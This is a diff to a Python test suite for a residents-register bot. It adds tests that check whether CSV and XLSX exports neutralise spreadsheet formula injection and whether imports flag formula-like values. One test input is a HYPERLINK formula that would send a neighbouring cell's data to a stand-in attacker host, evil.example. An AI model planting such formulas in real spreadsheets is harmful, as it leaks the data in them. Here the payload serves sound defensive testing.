@@ -104,14 +104,16 @@ def test_cli_import_reports_bad_rows_and_lists(redis_server, tmp_path):
     res = run_cli("--config", str(config), "residents", "import", str(bad), env_extra=env)
     assert res.returncode == 1
     assert "line 3: phone" in res.stderr and "nothing from" in res.stderr
-    good = csv_file(tmp_path, ROW_A, name="good.csv")
+    good = csv_file(tmp_path, ROW_A.replace("心脏不好", "=1+2"), name="good.csv")
     res = run_cli("--config", str(config), "residents", "import", str(good), env_extra=env)
     assert res.returncode == 0 and "1 added" in res.stdout
+    assert "check: line 2: notes starts with '='" in res.stdout  # flagged in the import report
     res = run_cli("--config", str(config), "residents", "list", env_extra=env)
     assert "陈阿公" in res.stdout and "13900000011" not in res.stdout  # phones masked in listings
     out = tmp_path / "export.csv"
     res = run_cli("--config", str(config), "residents", "export", str(out), env_extra=env)
     assert res.returncode == 0 and "13900000011" in out.read_text(encoding="utf-8-sig")
+    assert "'=1+2" in out.read_text(encoding="utf-8-sig")
 
 
 @pytest.mark.parametrize("mutate, expected", [
@@ -144,3 +146,50 @@ def test_the_bot_does_not_start_on_a_broken_config_and_says_one_line(tmp_path):
 def test_config_path_from_the_environment(tmp_path):
     res = run_cli(env_extra={"BOT_CONFIG": str(tmp_path / "missing.yaml")})
     assert res.returncode == 2 and "file not found" in res.stderr
+
+
+# --- spreadsheets carry no formulas out (OWASP CSV injection) ------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&B2,"张阿姨")'
+
+
+async def _stranger_approved(people, name: str, phone: str) -> None:
+    stranger, li = people(name), people("李社工")
+    await stranger.share_contact(phone)
+    await li.click(li.last("申请使用助手"), "同意")
+
+
+async def test_a_strangers_formula_name_is_exported_as_plain_text(app, people, tmp_path):
+    from openpyxl import load_workbook
+
+    await _stranger_approved(people, FORMULA_NAME, "13700001234")
+    await _stranger_approved(people, "@SUM(1+1)", "13700001235")
+    residents = await app.svc.store.residents()
+    out = tmp_path / "out.xlsx"
+    register.export_file(residents, out)
+    cells = [c for row in load_workbook(out).active.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula anywhere
+    name_cell = next(c for c in cells if c.value == FORMULA_NAME)
+    assert name_cell.data_type == "s" and name_cell.quotePrefix  # shown as the text it is
+    csv_out = tmp_path / "out.csv"
+    register.export_file(residents, csv_out)
+    text = csv_out.read_text(encoding="utf-8-sig")
+    assert "'" + FORMULA_NAME.replace('"', '""') in text and "'@SUM(1+1)" in text
+    assert "\n=" not in text and ",=" not in text and ",@" not in text
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+async def test_a_formula_like_register_round_trips_and_is_flagged_on_import(app, tmp_path, suffix):
+    rows = [ROW_A.replace("陈阿公", "-陈阿公").replace("心脏不好", '"+1 心脏, 见=备注"'),
+            ROW_B.replace("二零三", "203").replace("139 0000 0012", "+8613900000012")]
+    first = await register.import_file(app.svc.store, csv_file(tmp_path, *rows))
+    assert [f.split(":")[0] for f in first.flagged] == ["line 2", "line 2"]  # the name and the note
+    assert "name" in first.flagged[0] and "notes" in first.flagged[1]
+    out = tmp_path / f"out{suffix}"
+    register.export_file(await app.svc.store.residents(), out)
+    again = await register.import_file(app.svc.store, out)
+    assert (again.added, again.updated) == (0, 0)  # the neutralising mark does not come back in
+    people = {p["phone"]: p for p in await app.svc.store.residents()}
+    assert people["13900000011"]["name"] == "-陈阿公" and people["13900000011"]["notes"] == "+1 心脏, 见=备注"
+    assert people["13900000012"]["name"] == "周阿婆"  # +86 phones still round-trip as phones
+    assert len(again.flagged) == 2
